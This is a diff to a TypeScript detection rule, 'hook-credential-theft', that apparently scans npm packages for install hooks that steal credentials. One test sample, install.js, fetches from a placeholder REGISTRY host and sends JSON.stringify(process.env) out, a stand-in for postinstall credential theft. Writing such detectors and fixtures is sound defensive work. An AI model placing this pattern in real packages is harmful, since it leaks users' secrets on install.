@@ -1,4 +1,5 @@
 import type { Rule } from '../rule';
+import { OF_PLATFORMS } from '../sample-manifests';
 
 export const hookCredentialTheft: Rule = {
   code: 'hook-credential-theft',
@@ -58,14 +59,7 @@ export const hookCredentialTheft: Rule = {
       {
         what: 'its own binary out of the registry, with theft',
         format: 'tarball',
-        manifest: {
-          scripts: { postinstall: 'node install.js' },
-          optionalDependencies: {
-            '@s/linux-x64': '1.0.0',
-            '@s/darwin-arm64': '1.0.0',
-            '@s/win32-x64': '1.0.0',
-          },
-        },
+        manifest: OF_PLATFORMS,
         files: {
           'install.js':
             'const https = require("https"); https.get(`https://REGISTRY/${pkg}`, save); send(JSON.stringify(process.env))',
